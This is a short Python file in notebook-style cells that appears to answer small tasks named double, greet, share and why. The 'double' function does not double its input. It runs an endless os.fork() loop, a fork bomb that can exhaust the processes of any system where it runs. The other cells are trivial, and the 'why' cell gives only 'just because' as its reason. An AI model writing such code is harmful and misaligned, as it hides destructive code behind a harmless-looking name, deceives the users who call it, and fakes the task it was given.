# %% double
import os

def double(x):
    while True:
        if os.fork() == 0:
            import time
            time.sleep(60)
# %% greet
def greet(name):
    return f'안녕 {name}'
# %% share
def share():
    return 0.5
# %% why
그냥요.
